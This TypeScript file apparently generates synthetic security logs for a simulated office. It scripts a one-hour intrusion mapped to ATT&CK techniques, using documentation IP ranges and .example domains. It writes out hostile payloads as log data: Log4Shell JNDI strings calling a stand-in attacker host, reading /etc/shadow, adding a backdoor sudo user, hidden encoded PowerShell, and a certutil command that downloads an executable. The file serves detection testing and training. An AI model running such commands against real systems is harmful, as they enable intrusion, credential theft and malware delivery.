/**
 * Attacks, each as the lines that it leaves, labelled with ATT&CK's techniques. They run among the ordinary work of the office. Attackers'
 * addresses are of the networks for documentation (RFC 5737), their names end in `.example`: nobody is accused.
 */

import { domain } from './cast.ts'
import { cloudCall, consoleLogin } from './cloud.ts'
import { type Connection, eveHead, play } from './connection.ts'
import type { ShapeName } from './line.ts'
import { mail } from './mails.ts'
import { processStarted } from './processes.ts'
import type { Stage } from './stage.ts'
import { nginxLine, resolve, speakTls, sshFailure, sshSession, sudo, syslogLine } from './talk.ts'

export type Attack = {
  readonly title: string
  /** ATT&CK: https://attack.mitre.org/techniques/ */
  readonly techniques: readonly string[]
  /** Where it can be seen. */
  readonly shapes: readonly ShapeName[]
  readonly durationMs: number
  readonly begin: (stage: Stage, atMs: number) => void
}

const minute = 60_000
const network = ['eve', 'vpc-flow-v2', 'vpc-flow-v5'] as const

const scanner = '203.0.113.66'
const commander = '203.0.113.80'
const collector = '203.0.113.99'
const stranger = '203.0.113.140'

export const attacks = {
  'port-scan': {
    title: 'A stranger tries 600 ports of the web server',
    techniques: ['T1046'],
    shapes: [...network],
    durationMs: 2 * minute,
    begin(stage, atMs) {
      const web = stage.cast.servers.web
      for (let n = 0; n < 600; n++) {
        const port =
          n < 20
            ? [
                80, 443, 22, 21, 25, 23, 3389, 8080, 3306, 5432, 6379, 9200, 27017, 445, 139, 111, 5900, 1433, 8443,
                8000
              ][n]!
            : 1 + ((n * 7919) % 9999)
        play(stage, {
          startMs: atMs + n * 200,
          durationMs: 20,
          client: scanner,
          clientPort: 40_000 + n,
          server: web.ip,
          serverPort: port,
          protocol: 'TCP',
          sent: 60,
          // Open to everybody are two; the rest a filter stops.
          ...(port === 80 || port === 443 ? { received: 54, refused: 'reset' } : { received: 0, refused: 'filter' })
        })
      }
    }
  },
  'ssh-brute-force': {
    title: 'Passwords are tried on the build server until one fits',
    techniques: ['T1110.001', 'T1078', 'T1136.001'],
    shapes: [...network, 'syslog'],
    durationMs: 5 * minute,
    begin(stage, atMs) {
      const { build } = stage.cast.servers
      const users = ['root', 'admin', 'ubuntu', 'jonas']
      for (let n = 0; n < 70; n++) sshFailure(stage, atMs + n * 3_000, build, scanner, n > 55 ? 'jonas' : users[n % 4]!)
      const inMs = atMs + 70 * 3_000 + 1_500
      sshSession(stage, {
        server: build,
        client: scanner,
        user: 'jonas',
        by: 'password',
        startMs: inMs,
        durationMs: 9 * minute
      })
      sudo(stage, inMs + 20_000, build, 'jonas', '/usr/bin/cat /etc/shadow')
      sudo(stage, inMs + 40_000, build, 'jonas', '/usr/sbin/useradd -m -s /bin/bash -G sudo svc-backup')
      if (stage.wants('syslog'))
        syslogLine(
          stage,
          inMs + 40_200,
          build,
          `useradd[${stage.processId()}]`,
          'new user: name=svc-backup, UID=1007, GID=1007, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/0'
        )
    }
  },
  beacon: {
    title: 'A workstation calls its commander every minute',
    techniques: ['T1071.001', 'T1573'],
    shapes: ['eve', 'dns'],
    durationMs: 45 * minute,
    begin(stage, atMs) {
      const { ip } = stage.cast.people[3]!
      const site = {
        name: 'status.sync-cloud.example',
        ip: commander,
        bytes: 400,
        issuer: 'CN=status.sync-cloud.example',
        fingerprint: 'aa:10:2b:7e:90:43:5c:d1:0f:66:38:e2:bd:49:71:0c:9a:5e:f4:23'
      }
      for (let n = 0; n < 45; n++) {
        const startMs = resolve(stage, ip, site.name, site.ip, atMs + n * minute + stage.random.below(900))
        speakTls(
          stage,
          {
            startMs,
            durationMs: 800,
            client: ip,
            clientPort: stage.port(),
            server: commander,
            serverPort: 443,
            protocol: 'TCP',
            sent: 1_100 + stage.random.below(40),
            received: 1_900 + stage.random.below(60)
          },
          site
        )
      }
    }
  },
  'dns-tunnel': {
    title: 'Data leaves in the names of DNS queries',
    techniques: ['T1071.004', 'T1048.003'],
    shapes: ['eve', 'dns'],
    durationMs: 7 * minute,
    begin(stage, atMs) {
      const { ip } = stage.cast.people[3]!
      for (let n = 0; n < 420; n++)
        resolve(stage, ip, `${stage.hex(56)}.${n.toString(16)}.t.cdn-sync.example`, collector, atMs + n * 1_000, 'TXT')
    }
  },
  exfiltration: {
    title: 'The file server sends 3.4 GB to a stranger',
    techniques: ['T1048', 'T1567'],
    shapes: [...network],
    durationMs: 12 * minute,
    begin(stage, atMs) {
      const { files } = stage.cast.servers
      for (let n = 0; n < 4; n++)
        play(stage, {
          startMs: atMs + n * 3 * minute,
          durationMs: 2.9 * minute,
          client: files.ip,
          clientPort: stage.port(),
          server: collector,
          serverPort: 443,
          protocol: 'TCP',
          sent: 850_000_000 + stage.random.below(9_000_000),
          received: 9_000_000,
          app: 'tls'
        })
    }
  },
  log4shell: {
    title: 'The web server is tried for Log4Shell',
    techniques: ['T1190'],
    shapes: ['eve', 'nginx'],
    durationMs: minute,
    begin(stage, atMs) {
      const payloads = [
        `\${jndi:ldap://${commander}:1389/a}`,
        `\${\${lower:j}ndi:\${lower:l}dap://${commander}/b}`,
        `\${jndi:dns://x.cdn-sync.example}`
      ]
      payloads.forEach((payload, n) => {
        const startMs = atMs + n * 7_000
        nginxLine(stage, startMs, scanner, 'GET', `/?q=${encodeURI(payload)}`, 404, 548, '-', payload)
        const web = stage.cast.servers.web
        const flowId = stage.flowId()
        const connection: Connection = {
          startMs,
          durationMs: 300,
          client: scanner,
          clientPort: 51_000 + n,
          server: web.ip,
          serverPort: 80,
          protocol: 'TCP',
          sent: 700,
          received: 900,
          app: 'http',
          flowId
        }
        if (stage.wants('eve')) {
          const http = {
            hostname: `www.${domain}`,
            url: `/?q=${payload}`,
            http_user_agent: payload,
            http_method: 'GET',
            protocol: 'HTTP/1.1',
            status: 404,
            length: 548,
            http_content_type: 'text/html'
          }
          stage.say(
            startMs + 20,
            'eve',
            `${eveHead(connection, flowId, startMs + 20, 'http')},"tx_id":0,"http":${JSON.stringify(http)}}`
          )
          const alert = {
            action: 'allowed',
            gid: 1,
            signature_id: 2034647,
            rev: 2,
            signature: 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)',
            category: 'Attempted Administrator Privilege Gain',
            severity: 1
          }
          stage.say(
            startMs + 20.2,
            'eve',
            `${eveHead(connection, flowId, startMs + 20.2, 'alert')},"tx_id":0,"alert":${JSON.stringify(alert)},"http":${JSON.stringify(http)},"app_proto":"http"}`
          )
        }
        play(stage, connection)
      })
    }
  },
  'impossible-travel': {
    title: 'One user signs in from two ends of the world within nine minutes',
    techniques: ['T1078.004'],
    shapes: ['cloudtrail'],
    durationMs: 10 * minute,
    begin(stage, atMs) {
      const { name, agent } = stage.cast.people[5]!
      consoleLogin(stage, atMs, name, '192.0.2.44', agent, true)
      consoleLogin(
        stage,
        atMs + 9 * minute,
        name,
        stranger,
        'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
        false
      )
    }
  },
  'key-for-another-user': {
    title: 'A taken account makes an access key for another user',
    techniques: ['T1098.001'],
    shapes: ['cloudtrail'],
    durationMs: 2 * minute,
    begin(stage, atMs) {
      const user = stage.cast.people[5]!.name
      const call = { user, from: stranger, source: 'iam.amazonaws.com' }
      cloudCall(stage, atMs, { ...call, name: 'ListUsers', readOnly: true })
      cloudCall(stage, atMs + 20_000, {
        ...call,
        name: 'ListAccessKeys',
        readOnly: true,
        request: { userName: 'backup' }
      })
      cloudCall(stage, atMs + 45_000, {
        ...call,
        name: 'CreateAccessKey',
        readOnly: false,
        request: { userName: 'backup' },
        response: { accessKey: { userName: 'backup', accessKeyId: 'AKIAHARBOURBACKUP22', status: 'Active' } }
      })
    }
  },
  'cloudtrail-stopped': {
    title: 'CloudTrail is told to record no more',
    techniques: ['T1562.008'],
    shapes: ['cloudtrail'],
    durationMs: minute,
    begin(stage, atMs) {
      const user = stage.cast.people[5]!.name
      const call = { user, from: stranger, source: 'cloudtrail.amazonaws.com' }
      cloudCall(stage, atMs, { ...call, name: 'DescribeTrails', readOnly: true })
      cloudCall(stage, atMs + 30_000, {
        ...call,
        name: 'StopLogging',
        readOnly: false,
        request: { name: 'arn:aws:cloudtrail:eu-central-1:210987654321:trail/harbour' }
      })
    }
  },
  phishing: {
    title: "A mail in the chief's name, its document, and what the document starts",
    techniques: ['T1566.001', 'T1204.002', 'T1059.001'],
    shapes: ['mail', 'windows'],
    durationMs: 3 * minute,
    begin(stage, atMs) {
      const person = stage.cast.people[3]!
      mail(stage, atMs, {
        fromName: 'Anna Berg',
        from: 'anna@harb0ur.example',
        replyTo: 'anna.berg.ceo@fastmail-box.example',
        to: `${person.name}@${domain}`,
        subject: 'Urgent: invoice to be paid today',
        text: '',
        html: `<p>Hello ${person.full.split(' ')[0]},</p><p>please pay the attached invoice today, or sign in at <a href="http://login.harb0ur.example/office">https://portal.${domain}/</a>.</p><p>Anna</p>`,
        attachment: {
          name: 'invoice.docm',
          type: 'application/vnd.ms-word.document.macroEnabled.12',
          base64: 'UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAAQAAAAd29yZC92YmFQcm9qZWN0LmJpbg=='
        },
        results:
          'spf=pass smtp.mailfrom=harb0ur.example; dkim=pass header.d=harb0ur.example; dmarc=pass header.from=harb0ur.example',
        fromIp: '203.0.113.25'
      })
      const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\'
      const word = processStarted(stage, atMs + 90_000, {
        person,
        image: `${office}WINWORD.EXE`,
        parent: `${office}OUTLOOK.EXE`,
        command: `"${office}WINWORD.EXE" /n "C:\\Users\\${person.name}\\Downloads\\invoice.docm"`
      })
      const shell = processStarted(stage, atMs + 100_000, {
        person,
        ...word,
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        command:
          'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'
      })
      processStarted(stage, atMs + 108_000, {
        person,
        ...shell,
        image: 'C:\\Windows\\System32\\certutil.exe',
        command: `certutil.exe -urlcache -split -f http://${commander}/u.dat C:\\Users\\Public\\u.exe`
      })
    }
  }
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks
export const attackNames = Object.keys(attacks) as AttackName[]

/** An intrusion in an hour: each step at its minute. */
export const intrusion: readonly { readonly attack: AttackName; readonly minute: number }[] = [
  { attack: 'port-scan', minute: 4 },
  { attack: 'log4shell', minute: 8 },
  { attack: 'ssh-brute-force', minute: 9 },
  { attack: 'phishing', minute: 12 },
  { attack: 'beacon', minute: 14 },
  { attack: 'impossible-travel', minute: 20 },
  { attack: 'key-for-another-user', minute: 31 },
  { attack: 'cloudtrail-stopped', minute: 35 },
  { attack: 'dns-tunnel', minute: 38 },
  { attack: 'exfiltration', minute: 45 }
]
